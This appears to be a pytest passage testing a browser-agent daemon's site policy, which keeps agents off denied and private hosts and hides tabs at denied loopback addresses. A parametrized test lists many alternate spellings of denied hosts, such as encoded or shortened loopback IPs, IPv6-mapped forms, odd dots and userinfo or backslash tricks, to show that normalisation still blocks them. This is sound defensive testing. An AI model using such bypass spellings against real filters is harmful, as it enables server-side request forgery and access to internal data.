    runner, port = await serve_notes(Server(""))
    try:
        settings = daemon_settings(tmp_path, allow_private_hosts=False, allow_hosts=(f"Bücher.test:{port}",))
        async with RunningDaemon(settings, warm=False) as d:
            for url in (f"http://bücher.test:{port}/notes", f"http://xn--bcher-kva.test:{port}/notes"):
                await read_private(d, url)
            body = await fetch(d, f"http://localhost:{port}/notes")  # the rule opens that host, not the address
    finally:
        await runner.cleanup()
    assert body["ok"] is False and body["error"]["code"] == "blocked_by_policy", body


@pytest.mark.parametrize("url", [
    "http://127.0.0.1%2e/", "http://0x7F000001/", "http://127.1/", "http://[::ffff:7f00:1]/", "http://127.0.0.01/",
    "http://2130706433/", "http://127.0.0.1.:80/", "http://EVIL.example./", "http://evil%2eexample/",
    "http://%65vil.example/", "http://ＥＶＩＬ.example/", "http://evil。example/", "http://evil.example:80/",
    "http://evil.example\\@good.example/", "http://good.example@evil.example/", "http://faß.test/",
    "http://[0:0:0:0:0:0:0:1]/",
])
def test_every_spelling_of_a_denied_host_is_denied(url: str) -> None:
    """Held: the site policy sees the URL as the agent's fetch will (``normalise_url``), in the one canonical form."""
    deny = SitePolicy(deny=("127.0.0.1", "evil.example", "xn--fa-hia.test", "[::1]"))
    assert deny.decide(normalise_url(url)).allowed is False, url


@pytest.mark.timeout(120)
async def test_a_tab_at_the_unspecified_address_of_a_denied_loopback_is_not_listed(tmp_path: Path,
                                                                                    chromium: str) -> None:
    """The extension's half (``policy.js``, which filters the tab listings): with 127.0.0.1 denied on the options
    page, a tab at ``http://0.0.0.0:PORT/`` (the kernel's 127.0.0.1) is not shown to agents; one at 127.0.0.4 is."""
    from trawl.capabilities.tabs import ListTabsIn, SearchTabsIn, list_tabs, search_tabs

    from tests.e2e.conftest import close_linked, deny_in_options, e2e_settings, launch_linked

    secret, public = "The harbour ledger lists the bell at four.", "The ferry timetable lists the bell at nine."
    srv = Server("")

    async def handle(request: web.Request) -> web.Response:
        srv.hits.append(str(request.rel_url))
        text = secret if request.path == "/ledger" else public
        return web.Response(text=page("Tab", f"<p>{text}</p>" * 3), content_type="text/html")

    async with site(handle, "0.0.0.0") as port:  # 127.0.0.1 and 127.0.0.4 alike
        stack = await launch_linked(tmp_path, chromium, settings=e2e_settings(tmp_path))
        try:
            assert await stack.hub.wait_attached(15), stack.hub.describe()
            await deny_in_options(stack, "127.0.0.1")
            await stack.open_tab(f"http://0.0.0.0:{port}/ledger")
            await stack.open_tab(f"http://127.0.0.4:{port}/ferry")
            services = stack.daemon.state.services
            listing = await list_tabs(services, ListTabsIn())
            found = await search_tabs(services, SearchTabsIn(query="bell ledger"))
        finally:
            await close_linked(stack)
    assert "/ledger" in srv.hits, "the browser did not open the tab at 0.0.0.0 (the test shows nothing)"
    urls = [t.url for t in listing.tabs]
    assert any("127.0.0.4" in u for u in urls), urls
    assert not any("0.0.0.0" in u for u in urls), urls
    assert found.ok and not any(secret in h.text for h in found.hits), found.hits
